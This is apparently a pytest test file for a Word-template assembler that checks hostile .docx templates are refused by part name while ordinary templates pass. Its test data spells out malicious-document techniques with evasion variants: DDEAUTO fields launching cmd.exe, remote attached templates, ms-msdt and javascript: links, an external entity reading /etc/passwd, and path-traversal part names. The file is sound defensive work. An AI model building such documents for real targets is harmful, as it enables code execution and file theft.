"""drafts: a template that fetches, runs or hides another file is refused by the name of the
part, however it is spelled."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping

import docx
import pytest

from assembler.documents.draft_job import fill_template
from assembler.errors import TemplateBroken
from assembler.runtime.resources import TemplateFile
from tests import letters
from tests import wordfiles as word

STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PLAIN = word.paragraph(word.run("Dear Officer"))


def rendered(data: bytes) -> bytes:
    return fill_template(
        TemplateFile(name="parole/own.docx", data=data, origin="case"),
        letters.values(letters.case()),
    )


def with_field(instruction: str) -> bytes:
    return word.document(word.paragraph(word.field(instruction, word.run("shown"))))


def with_relation(kind: str, target: str, *, outside: bool = True) -> bytes:
    return word.document(PLAIN, relations={"rIdX": (kind, target, outside)})


def with_part(name: str, data: bytes) -> bytes:
    return word.document(PLAIN, parts={name: data})


def with_settings(inside: str) -> bytes:
    relations = {"rIdS": ("settings", "settings.xml", False)}
    return word.document(
        PLAIN, parts={"word/settings.xml": word.part("settings", inside)}, relations=relations
    )


def in_story(kind: str, body: str) -> bytes:
    """A document with a header, comments and the like that holds this."""
    relations = {"rIdStory": (kind, f"{kind}1.xml", False)}
    return word.document(
        PLAIN, parts={f"word/{kind}1.xml": word.part("hdr", body)}, relations=relations
    )


def rewritten(
    data: bytes,
    changes: Mapping[str, Callable[[bytes], bytes]],
    also: tuple[tuple[str, bytes], ...] = (),
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as given, zipfile.ZipFile(out, "w") as made:
        for name in given.namelist():
            made.writestr(name, changes.get(name, lambda same: same)(given.read(name)))
        for name, content in also:
            made.writestr(name, content)
    return out.getvalue()


def single_quoted(relationships: bytes) -> bytes:
    return relationships.replace(b'"', b"'")


def in_utf16(part: bytes) -> bytes:
    text = (
        part.decode()
        .replace('encoding="UTF-8"', 'encoding="UTF-16"')
        .replace("<Relationships ", "<Relationships\n ", 1)
    )
    return text.encode("utf-16")


def renamed_prefix(part: bytes) -> bytes:
    return (
        part.replace(b"xmlns:w=", b"xmlns:q=")
        .replace(b"<w:", b"<q:")
        .replace(b"</w:", b"</q:")
        .replace(b" w:", b" q:")
    )


def strict(part: bytes) -> bytes:
    return part.replace(
        word.SPACES["w"].encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    )


RELATIONS = "word/_rels/document.xml.rels"
ATTACHED = with_relation("attachedTemplate", "http://canary.invalid/t.dotm")
DDE = 'DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"'
SPLIT_DDE = word.SPLIT.join(("D", "DE", 'AUTO "cmd" "/c calc"'))
QUOTED = word.SPLIT.join(("", word.field("QUOTE 68 68 69", word.run("DDE")), ' "cmd" "/c calc"'))
FETCHED = '<v:imagedata src="http://canary.invalid/x"/>'
ENTITY = b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "attached template": (lambda: ATTACHED, "word/_rels/document.xml.rels"),
    "attached template from a share": (
        lambda: with_relation("attachedTemplate", "\\\\\\\\canary.invalid\\\\t.dotm"),
        "document.xml.rels",
    ),
    "attached template, strict": (
        lambda: with_relation(f"{STRICT}/attachedTemplate", "file:///c:/t.dotm"),
        "document.xml.rels",
    ),
    "attached template, spelled with references": (
        lambda: rewritten(
            ATTACHED, {RELATIONS: lambda d: d.replace(b"attachedTemplate", b"attached&#84;emplate")}
        ),
        "document.xml.rels",
    ),
    "attached template in single quotes": (
        lambda: rewritten(ATTACHED, {RELATIONS: single_quoted}),
        "document.xml.rels",
    ),
    "attached template in UTF-16": (
        lambda: rewritten(ATTACHED, {"word/_rels/document.xml.rels": in_utf16}),
        "document.xml.rels",
    ),
    "attached template, mode in capitals": (
        lambda: rewritten(
            ATTACHED,
            {"word/_rels/document.xml.rels": lambda d: d.replace(b'"External"', b'"EXTERNAL"')},
        ),
        "document.xml.rels",
    ),
    "attached template named in the settings": (
        lambda: with_settings('<w:attachedTemplate r:id="rId1"/>'),
        "word/settings.xml",
    ),
    "link named like a hyperlink": (
        lambda: with_relation("image", "http://canary.invalid/hyperlink.png"),
        "document.xml.rels",
    ),
    "picture from a web page": (
        lambda: with_relation("image", "https://canary.invalid/x.png"),
        "document.xml.rels",
    ),
    "picture from a share, not called external": (
        lambda: with_relation("image", "file://canary.invalid/x.png", outside=False),
        "document.xml.rels",
    ),
    "font from elsewhere": (
        lambda: with_relation("font", "http://canary.invalid/f.odttf"),
        "document.xml.rels",
    ),
    "hyperlink to a file": (
        lambda: with_relation("hyperlink", "file:///c:/windows/system32/cmd.exe"),
        "document.xml.rels",
    ),
    "hyperlink to a share": (
        lambda: with_relation("hyperlink", "\\\\\\\\canary.invalid\\\\x"),
        "document.xml.rels",
    ),
    "hyperlink to a program": (
        lambda: with_relation("hyperlink", "ms-msdt:/id"),
        "document.xml.rels",
    ),
    "hyperlink with a script": (
        lambda: with_relation("hyperlink", "java&#115;cript:alert(1)"),
        "document.xml.rels",
    ),
    "linked object": (
        lambda: with_relation("oleObject", "http://canary.invalid/x"),
        "document.xml.rels",
    ),
    "embedded object": (
        lambda: with_relation("oleObject", "data/o.dat", outside=False),
        "document.xml.rels",
    ),
    "embedded workbook": (
        lambda: with_relation("package", "data/b.xlsx", outside=False),
        "document.xml.rels",
    ),
    "object in the text": (
        lambda: word.document(
            word.paragraph(word.vml_picture("rIdP", '<o:OLEObject Type="Link"/>')),
            pictures={"rIdP": ("x.png", word.png())},
        ),
        "word/document.xml",
    ),
    "frame of another document": (
        lambda: with_relation("frame", "http://canary.invalid/f.docx"),
        "document.xml.rels",
    ),
    "frameset": (
        lambda: with_part("word/webSettings.xml", word.part("webSettings", "<w:frameset/>")),
        "word/webSettings.xml",
    ),
    "part of a master document": (
        lambda: word.document(PLAIN, '<w:subDoc r:id="rId1"/>'),
        "word/document.xml",
    ),
    "sub-document": (lambda: with_relation("subDocument", "other.docx"), "document.xml.rels"),
    "another file in its place": (
        lambda: with_relation("aFChunk", "chunk.html", outside=False),
        "document.xml.rels",
    ),
    "another file in its place, by element": (
        lambda: word.document(PLAIN, '<w:altChunk r:id="rId1"/>'),
        "word/document.xml",
    ),
    "another file, in a strict document": (
        lambda: rewritten(
            word.document(PLAIN, '<w:altChunk r:id="rId1"/>'), {"word/document.xml": strict}
        ),
        "word/document.xml",
    ),
    "macros": (
        lambda: with_relation(f"{MICROSOFT}/vbaProject", "v.dat", outside=False),
        "document.xml.rels",
    ),
    "macros without a relationship": (
        lambda: with_part("word/vbaProject.bin", b"x"),
        "word/vbaProject.bin",
    ),
    "macros by content type": (
        lambda: rewritten(
            word.document(PLAIN),
            {
                "[Content_Types].xml": lambda d: d.replace(
                    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main",
                    b"vnd.ms-word.document.macroEnabled.main",
                )
            },
        ),
        "[Content_Types].xml",
    ),
    "ActiveX": (
        lambda: with_relation("control", "activeX1.xml", outside=False),
        "document.xml.rels",
    ),
    "ActiveX by element": (
        lambda: word.document(word.paragraph(word.raw_run('<w:control r:id="rId1"/>'))),
        "word/document.xml",
    ),
    "buttons for Word": (
        lambda: rewritten(
            word.document(PLAIN),
            {
                "_rels/.rels": lambda d: d.replace(
                    b"</Relationships>",
                    b'<Relationship Id="u" '
                    b'Type="http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"'
                    b' Target="customUI.xml"/></Relationships>',
                )
            },
        ),
        "_rels/.rels",
    ),
    "mail merge": (
        lambda: with_settings("<w:mailMerge><w:query w:val='SELECT 1'/></w:mailMerge>"),
        "word/settings.xml",
    ),
    "data source of a mail merge": (
        lambda: with_relation("mailMergeSource", "file:///c:/x.mdb"),
        "document.xml.rels",
    ),
    "add-in from the web": (
        lambda: with_relation(
            "http://schemas.microsoft.com/office/2011/relationships/webextension",
            "w.xml",
            outside=False,
        ),
        "document.xml.rels",
    ),
    "DDE": (lambda: with_field(DDE), "word/document.xml"),
    "DDE in small letters": (lambda: with_field('  dde "cmd" "/c calc"'), "word/document.xml"),
    "DDE over several runs": (lambda: with_field(SPLIT_DDE), "word/document.xml"),
    "DDE within another field": (
        lambda: with_field(
            word.SPLIT.join(("IF ", word.field(SPLIT_DDE, word.run("x")), " = 1 2 3"))
        ),
        "word/document.xml",
    ),
    "DDE that a field spells": (lambda: with_field(QUOTED), "word/document.xml"),
    "DDE in a simple field": (
        lambda: word.document(
            word.paragraph(f'<w:fldSimple w:instr="{DDE.replace(chr(34), "&quot;")}"/>')
        ),
        "word/document.xml",
    ),
    "DDE under another prefix": (
        lambda: rewritten(with_field(DDE), {"word/document.xml": renamed_prefix}),
        "word/document.xml",
    ),
    "DDE in UTF-16": (
        lambda: rewritten(with_field(DDE), {"word/document.xml": in_utf16}),
        "word/document.xml",
    ),
    "DDE in a field that never ends": (
        lambda: word.document(word.paragraph(word.field_marks(SPLIT_DDE)[0])),
        "word/document.xml",
    ),
    "DDE in deleted text": (
        lambda: word.document(
            word.paragraph(word.raw_run(f"<w:delInstrText>{DDE}</w:delInstrText>"))
        ),
        "word/document.xml",
    ),
    **{
        f"DDE in {kind}": (
            lambda kind=kind: in_story(kind, word.paragraph(word.field(DDE, ""))),
            f"word/{kind}1.xml",
        )  # type: ignore[misc]
        for kind in ("header", "footer", "footnotes", "endnotes", "comments", "glossaryDocument")
    },
    **{
        f"{name} field": (
            lambda name=name: with_field(f'{name} "http://canary.invalid/x" \\d'),
            "word/document.xml",
        )  # type: ignore[misc]
        for name in (
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "LINK",
            "IMPORT",
            "DATABASE",
            "MACROBUTTON",
            "RD",
            "EMBED",
        )
    },
    "field with a link to a file": (
        lambda: with_field('HYPERLINK "file:///c:/x.exe"'),
        "word/document.xml",
    ),
    "field with a link to a share": (
        lambda: with_field('HYPERLINK "\\\\\\\\canary.invalid\\\\x"'),
        "word/document.xml",
    ),
    "VML picture from a web page": (
        lambda: word.document(
            word.paragraph(word.raw_run(f"<w:pict><v:shape>{FETCHED}</v:shape></w:pict>"))
        ),
        "word/document.xml",
    ),
    "entities": (
        lambda: rewritten(
            word.document(PLAIN), {"word/document.xml": lambda d: ENTITY + d.partition(b"?>")[2]}
        ),
        "document.xml",
    ),
    "entities in a relationship part": (
        lambda: rewritten(word.document(PLAIN), {RELATIONS: lambda d: b"<!DOCTYPE x>" + d}),
        "document.xml.rels",
    ),
    "two parts with the same name": (
        lambda: rewritten(word.document(PLAIN), {}, (("word/Document.xml", b"<a/>"),)),
        "word/document.xml",
    ),
    "a part outside": (lambda: with_part("../../evil.xml", b"<a/>"), "../../evil.xml"),
    "a part outside, the Windows way": (
        lambda: with_part("word\\..\\..\\evil.xml", b"<a/>"),
        "evil.xml",
    ),
    "a part with a drive": (lambda: with_part("c:/evil.xml", b"<a/>"), "c:/evil.xml"),
    "broken XML": (lambda: with_part("word/styles2.xml", b"<a>"), "word/styles2.xml"),
}


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("kind", HOSTILE)
def test_what_fetches_runs_or_hides_is_refused_by_part(kind: str) -> None:
    make, part = HOSTILE[kind]

    with pytest.raises(TemplateBroken) as caught:
        rendered(make())

    problem, _, remedy = str(caught.value).partition("; ")
    assert problem.startswith("parole/own.docx: ")
    assert part in problem
    assert remedy
    assert "canary" not in str(caught.value)


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 60


def test_two_parts_of_the_very_same_name_are_refused() -> None:
    with pytest.warns(UserWarning, match="Duplicate name"):
        data = rewritten(word.document(PLAIN), {}, (("word/document.xml", b"<a/>"),))

    with pytest.raises(TemplateBroken, match="two parts with the same name"):
        rendered(data)


def google_docs() -> bytes:
    """The parts that Google Docs writes: embedded fonts, no settings of a template, links to web
    pages."""
    addresses = (
        "https://example.com/a?b=c",
        "mailto:clinic@example.com",
        "http://example.com",
        "tel:+12175550131",
    )
    relations = {
        f"rIdL{number}": ("hyperlink", address, True) for number, address in enumerate(addresses)
    }
    relations["rIdF"] = ("fontTable", "fontTable.xml", False)
    fonts = word.part("fonts", '<w:font w:name="Lora"><w:embedRegular r:id="rId1"/></w:font>')
    used = word.relationships({"rId1": ("font", "fonts/Lora-regular.ttf", False)})
    parts = {
        "word/fontTable.xml": fonts,
        "word/fonts/Lora-regular.ttf": b"font",
        "word/_rels/fontTable.xml.rels": used,
    }
    return word.document(PLAIN, relations=relations, parts=parts)


def word_365() -> bytes:
    """What Word 365 leaves in a file: properties, custom XML with addresses in it, people,
    comments, fields."""
    xml = (
        b'<p:properties xmlns:p="http://example.com/metadata" '
        b'href="file:///x"><object/></p:properties>'
    )
    relations = {
        "rIdC": ("customXml", "../customXml/item1.xml", False),
        "rIdE": ("comments", "comments.xml", False),
        "rIdP": (
            "http://schemas.microsoft.com/office/2011/relationships/people",
            "people.xml",
            False,
        ),
        "rIdK": ("glossaryDocument", "glossary/document.xml", False),
        "rIdW": ("webSettings", "webSettings.xml", False),
    }
    parts = {
        "customXml/item1.xml": xml,
        "word/comments.xml": word.part("comments", ""),
        "word/people.xml": word.part("people", ""),
        "word/glossary/document.xml": word.part("glossaryDocument", ""),
        "word/webSettings.xml": word.part("webSettings", ""),
    }
    body = (
        word.paragraph(
            word.field("PAGE", word.run("1")),
            word.field('HYPERLINK "https://example.com"', word.run("link")),
            word.field('HYPERLINK \\l "_Toc1"', word.run("chapter")),
            word.field('DATE \\@ "d MMMM yyyy"', ""),
            word.field("REF link \\h", word.run("see")),
        ),
        word.paragraph(word.text_box("box")),
    )
    return word.document(*body, relations=relations, parts=parts)


def python_docx() -> bytes:
    """Word 2013's default document, with its theme, styles, numbering and thumbnail."""
    out = io.BytesIO()
    docx.Document().save(out)
    return out.getvalue()


@pytest.mark.parametrize("make", [google_docs, word_365, python_docx])
def test_normal_templates_are_filled(make: Callable[[], bytes]) -> None:
    assert zipfile.is_zipfile(io.BytesIO(rendered(make())))


def test_utf_16_alone_is_no_threat() -> None:
    assert rendered(rewritten(word.document(PLAIN), {"word/_rels/document.xml.rels": in_utf16}))
